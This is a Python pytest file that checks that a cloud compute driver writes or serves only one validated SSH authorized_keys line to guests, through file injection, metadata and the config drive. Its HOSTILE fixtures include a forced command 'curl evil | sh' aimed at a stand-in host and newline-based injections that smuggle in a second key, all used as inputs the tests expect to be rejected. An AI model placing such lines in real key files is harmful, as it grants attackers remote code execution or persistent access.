"""Only one checked authorized_keys line reaches a guest: by file injection,
from the metadata service and on the config drive, also for key data stored
before the API checked keys on import."""

from __future__ import annotations

import json

import pytest
import sqlalchemy as sa

from pyct_driver import authorized_key
from pyct_driver.api import ssh_keys
from pyct_driver.db import models
from pyct_driver.metadata import content, lookup
from pyct_driver.virt import base
from pyct_driver.virt.rootfs import inject
from tests.fixtures import metadata_rows

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBbB me@host"
EVIL = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil"
HOSTILE = {
    "command": 'command="curl evil | sh" ' + KEY,
    "options": "no-pty,from=\"*\" " + KEY,
    "second-line": KEY + "\n" + EVIL,
    "second-line-cr": KEY + "\r" + EVIL,
    "second-line-nel": KEY + "\x85" + EVIL,
    "dsa": "ssh-dss AAAAB3NzaC1kc3MAAACBAP",
    "not-a-key": "hello world",
}


def test_authorized_line_is_one_normalised_line():
    assert authorized_key.authorized_line(KEY + "\n") == KEY
    assert authorized_key.authorized_line(
        "  ssh-ed25519\tAAAAC3NzaC1lZDI1NTE5AAAAIBbB\tme  at host \n") == \
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBbB me  at host"
    for text in [*HOSTILE.values(), "", None]:
        assert authorized_key.authorized_line(text) is None, text


def _spec(key_data: str | None) -> base.InstanceSpec:
    return base.InstanceSpec(uuid="u", name="vm", hostname="vm",
                             flavor=base.FlavorSpec(1, 64, 0),
                             image_id="i", key_data=key_data)


def test_injection_writes_the_checked_line_or_no_file():
    files = inject.guest_files(_spec(KEY + "\n"))
    assert files["/root/.ssh/authorized_keys"] == (
        (KEY + "\n").encode(), 0o600)
    for text in HOSTILE.values():
        assert "/root/.ssh/authorized_keys" not in \
            inject.guest_files(_spec(text))
    pem = ssh_keys.generate(ssh_keys.X509, "u")[1]
    assert "/root/.ssh/authorized_keys" not in \
        inject.guest_files(_spec(pem))


@pytest.fixture
def db():
    db = metadata_rows.make_db()
    yield db
    db.dispose()


def _everything(src: lookup.Source) -> bytes:
    """Every document the guest can read, over both transports."""
    paths = ["/openstack/latest/meta_data.json", "/latest/meta-data/",
             "/latest/meta-data/public-keys/",
             "/latest/meta-data/public-keys/0/openssh-key"]
    served = [content.respond(src, p)[1] for p in paths]
    drive = [data for _, data in content.config_drive_files(src)]
    return b"\n".join(served + drive)


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_metadata_and_config_drive_never_serve_a_stored_hostile_key(
        db, case):
    metadata_rows.add_instance(db, "10.241.250.7", key=HOSTILE[case])
    src = lookup.source_for_address(db, "10.241.250.7")
    md = json.loads(content.respond(
        src, "/openstack/latest/meta_data.json")[1])
    assert (md["public_keys"], md["keys"]) == ({}, [])
    assert "public-keys" not in content.ec2_meta_data(src)
    files = dict(content.config_drive_files(src))
    assert json.loads(files["nocloud/meta-data"])["public-keys"] == []
    everything = _everything(src)
    assert b"AAAAIEvil" not in everything and b"command=" not in everything
    assert b"no-pty" not in everything


def test_metadata_serves_a_key_stored_with_a_newline_as_one_line(db):
    metadata_rows.add_instance(db, "10.241.250.7", key=KEY + "\n")
    src = lookup.source_for_address(db, "10.241.250.7")
    md = json.loads(content.respond(
        src, "/openstack/latest/meta_data.json")[1])
    assert md["public_keys"] == {"k-vm": KEY}
    assert content.respond(
        src, "/latest/meta-data/public-keys/0/openssh-key")[1] == \
        KEY.encode()


def test_an_x509_key_pair_is_no_ssh_key(db):
    pem = ssh_keys.generate(ssh_keys.X509, "u")[1]
    metadata_rows.add_instance(db, "10.241.250.7", key=pem)
    with db.session() as session:
        session.execute(sa.update(models.KeyPair).values(type="x509"))
    src = lookup.source_for_address(db, "10.241.250.7")
    md = json.loads(content.respond(
        src, "/openstack/latest/meta_data.json")[1])
    # Nova's typed list keeps it (cloudbase-init's WinRM certificate);
    # nothing that guests copy into authorized_keys has it
    assert md["keys"] == [{"name": "k-vm", "type": "x509", "data": pem}]
    assert md["public_keys"] == {}
    assert "public-keys" not in content.ec2_meta_data(src)
    files = dict(content.config_drive_files(src))
    assert json.loads(files["nocloud/meta-data"])["public-keys"] == []
